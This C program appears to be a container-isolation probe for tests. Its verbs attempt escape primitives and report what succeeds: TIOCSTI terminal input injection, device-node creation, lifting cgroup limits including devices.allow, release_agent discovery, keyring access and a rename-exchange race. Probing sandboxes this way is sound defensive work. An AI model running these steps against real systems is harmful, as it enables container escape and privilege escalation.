/*
 * What an attacker runs in a container. Each verb prints a line for each thing that it got hold of, and nothing where all
 * was refused; `descriptors` and `terminal` say first that they ran. What was tried in vain goes to standard error.
 *
 *   escape where               the device and inode of the file that /proc/self/exe is
 *   escape descriptors         each descriptor beyond 2, and what it is
 *   escape terminal [TEXT]     each of the standard streams, and /dev/tty, that is a terminal: its file system and device; TEXT is
 *                              put into its input (TIOCSTI)
 *   escape open r|w PATH...    what can be opened
 *   escape stamp PATH...       what can be given another time, mode or owner
 *   escape node TYPE MAJOR MINOR PATH   makes a device node, and opens it
 *   escape connect PATH...     sockets that can be connected to, FIFOs that can be written to
 *   escape plant|read|drop NAME  a key in the user keyring
 *   escape cgroups             in namespaces of its own: cgroup hierarchies that can be mounted, what is seen in them that is not
 *                              this process's own, limits that can be lifted
 *   escape swap A B FILE       exchanges two names until FILE is there
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void got(const char *what, const char *which)
{
    printf("%s %s\n", what, which);
    fflush(stdout);
}

/* Says what was refused. */
static int refused(const char *what, const char *which)
{
    fprintf(stderr, "%s %s: %s\n", what, which, strerror(errno));
    return 0;
}

static void where(void)
{
    struct stat st;
    if (stat("/proc/self/exe", &st) == 0)
        printf("%lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
}

static void descriptors(void)
{
    DIR *folder = opendir("/proc/self/fd");
    char path[64], target[PATH_MAX];
    if (!folder)
        return;
    for (struct dirent *entry; (entry = readdir(folder));) {
        int fd = atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd <= 2 || fd == dirfd(folder))
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        printf("%d %s\n", fd, target);
    }
}

static void terminal_of(int fd, const char *name, const char *text)
{
    struct stat st;
    if (!isatty(fd) || fstat(fd, &st) != 0)
        return;
    printf("%s %lu:%lu\n", name, (unsigned long)st.st_dev, (unsigned long)st.st_rdev);
    for (; text && *text; text++)
        if (ioctl(fd, TIOCSTI, text) != 0) {
            refused("TIOCSTI", name);
            break;
        }
}

static void terminal(const char *text)
{
    char name[2] = "0";
    for (int fd = 0; fd <= 2; fd++, name[0]++)
        terminal_of(fd, name, text);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0)
        terminal_of(tty, "/dev/tty", text);
}

static void open_all(int flags, char **paths)
{
    for (; *paths; paths++) {
        int fd = open(*paths, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
        char byte;
        if (fd < 0)
            refused("open", *paths);
        else if (flags == O_RDONLY && read(fd, &byte, 1) <= 0) /* a mask reads as empty */
            refused("read", *paths);
        else
            got("open", *paths);
        if (fd >= 0)
            close(fd);
    }
}

static void stamp(char **paths)
{
    struct timespec times[2] = { { .tv_sec = 1000000000 }, { .tv_sec = 1000000000 } };
    for (; *paths; paths++) {
        struct stat st;
        if (stat(*paths, &st) != 0)
            continue;
        utimensat(AT_FDCWD, *paths, times, 0) == 0 ? got("utimensat", *paths) : (void)refused("utimensat", *paths);
        chmod(*paths, st.st_mode & 07777) == 0 ? got("chmod", *paths) : (void)refused("chmod", *paths);
        chown(*paths, st.st_uid, st.st_gid) == 0 ? got("chown", *paths) : (void)refused("chown", *paths);
    }
}

static void node(char type, int major, int minor, const char *path)
{
    unlink(path);
    if (mknod(path, (type == 'b' ? S_IFBLK : S_IFCHR) | 0600, makedev(major, minor)) != 0) {
        refused("mknod", path);
        return;
    }
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    fd >= 0 ? got("open", path) : (void)refused("open", path);
    unlink(path);
}

static void connect_all(char **paths)
{
    for (; *paths; paths++) {
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        struct stat st;
        if (stat(*paths, &st) != 0) {
            refused("stat", *paths);
            continue;
        }
        if (S_ISFIFO(st.st_mode)) {
            int fd = open(*paths, O_WRONLY | O_NONBLOCK);
            fd >= 0 || errno == ENXIO ? got("open", *paths) : (void)refused("open", *paths);
            continue;
        }
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        snprintf(address.sun_path, sizeof address.sun_path, "%s", *paths);
        connect(fd, (struct sockaddr *)&address, sizeof address) == 0 ? got("connect", *paths) : (void)refused("connect", *paths);
    }
}

/* As one's own session keyring may be another, a key is looked for by way of a link to the user's. */
static void key(const char *verb, const char *name)
{
    char value[64] = "";
    if (strcmp(verb, "plant") == 0) {
        if (syscall(SYS_add_key, "user", name, "planted", 7, KEY_SPEC_USER_KEYRING) >= 0)
            got("plant", name);
        else
            refused("add_key", name);
        return;
    }
    long found = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", name, 0);
    if (found < 0) {
        refused("search", name);
        return;
    }
    if (strcmp(verb, "drop") == 0) {
        syscall(SYS_keyctl, KEYCTL_UNLINK, found, KEY_SPEC_USER_KEYRING);
        return;
    }
    syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_PROCESS_KEYRING);
    if (syscall(SYS_keyctl, KEYCTL_READ, found, value, sizeof value - 1) > 0)
        got("read", value);
    else
        refused("read", name);
}

static int has(const char *folder, const char *file)
{
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/%s", folder, file);
    return access(path, F_OK) == 0;
}

/* Says what can be done with a mounted hierarchy. */
static void use_hierarchy(const char *name, const char *at)
{
    static const char *const limits[][2] = {
        { "memory.limit_in_bytes", "-1" }, { "pids.max", "max" }, { "cpu.cfs_quota_us", "-1" },
        { "memory.max", "max" },           { "cpu.max", "max" },  { "devices.allow", "a" },
    };
    char path[PATH_MAX], line[64];
    struct dirent *entry;
    DIR *folder;

    for (size_t i = 0; i < sizeof limits / sizeof *limits; i++) {
        snprintf(path, sizeof path, "%s/%s", at, limits[i][0]);
        int fd = open(path, O_WRONLY);
        if (fd < 0)
            continue;
        snprintf(line, sizeof line, "%s %s", name, limits[i][0]);
        write(fd, limits[i][1], strlen(limits[i][1])) > 0 ? got("lift", line) : (void)refused("lift", line);
        close(fd);
    }
    /* Other cgroups, or the processes of others (0 in a cgroup.procs), are the host's. */
    folder = opendir(at);
    while (folder && (entry = readdir(folder)))
        if (entry->d_type == DT_DIR && entry->d_name[0] != '.') {
            snprintf(line, sizeof line, "%s %.40s", name, entry->d_name);
            got("see", line);
        }
    snprintf(path, sizeof path, "%s/cgroup.procs", at);
    FILE *procs = fopen(path, "r");
    while (procs && fgets(line, sizeof line, procs))
        if (atoi(line) == 0) {
            got("foreign processes", name);
            break;
        }
    if (has(at, "release_agent"))
        got("release_agent", name);
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        refused("write", path);
    close(fd);
}

/* Root in the new user namespace is whoever we are. */
static void be_root(void)
{
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 0 1");
    put("/proc/self/gid_map", "0 0 1");
}

static void cgroups(void)
{
    static const char *const controllers[] = { "memory", "pids", "cpu", "cpuacct", "devices", "freezer", "blkio", "cpuset" };
    const char *at = "/tmp/cgroup";

    mkdir("/tmp", 0755);
    mkdir(at, 0755);
    if (unshare(CLONE_NEWUSER) != 0)
        refused("unshare", "CLONE_NEWUSER");
    else
        be_root();
    if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0) {
        refused("unshare", "CLONE_NEWNS|CLONE_NEWCGROUP");
        return;
    }
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    mount("tmpfs", "/tmp", "tmpfs", 0, NULL);
    mkdir(at, 0755);
    for (size_t i = 0; i < sizeof controllers / sizeof *controllers + 2; i++) {
        const char *name = i < sizeof controllers / sizeof *controllers ? controllers[i] : i % 2 ? "name=systemd" : "cgroup2";
        int is_v2 = strcmp(name, "cgroup2") == 0;
        const char *data = strcmp(name, "name=systemd") == 0 ? "none,name=systemd" : name;
        if (mount("none", at, is_v2 ? "cgroup2" : "cgroup", 0, is_v2 ? NULL : data) != 0) {
            refused("mount", name);
            continue;
        }
        got("mount", name);
        use_hierarchy(name, at);
        umount2(at, MNT_DETACH);
    }
}

static void swap(const char *a, const char *b, const char *until)
{
    while (access(until, F_OK) != 0)
        for (int i = 0; i < 1000; i++) {
            syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
            usleep(i % 50);
        }
}

int main(int argc, char **argv)
{
    const char *verb = argc > 1 ? argv[1] : "";

    if (strcmp(verb, "terminal") == 0 || strcmp(verb, "descriptors") == 0)
        got("ran", verb);
    if (strcmp(verb, "where") == 0)
        where();
    else if (strcmp(verb, "descriptors") == 0)
        descriptors();
    else if (strcmp(verb, "terminal") == 0)
        terminal(argv[2]);
    else if (strcmp(verb, "open") == 0 && argc > 3)
        open_all(argv[2][0] == 'w' ? O_WRONLY : O_RDONLY, argv + 3);
    else if (strcmp(verb, "stamp") == 0)
        stamp(argv + 2);
    else if (strcmp(verb, "node") == 0 && argc == 6)
        node(argv[2][0], atoi(argv[3]), atoi(argv[4]), argv[5]);
    else if (strcmp(verb, "connect") == 0)
        connect_all(argv + 2);
    else if (argc == 3 && (strcmp(verb, "plant") == 0 || strcmp(verb, "read") == 0 || strcmp(verb, "drop") == 0))
        key(verb, argv[2]);
    else if (strcmp(verb, "cgroups") == 0)
        cgroups();
    else if (strcmp(verb, "swap") == 0 && argc == 5)
        swap(argv[2], argv[3], argv[4]);
    else {
        fprintf(stderr, "escape: see escape.c\n");
        return 2;
    }
    return 0;
}
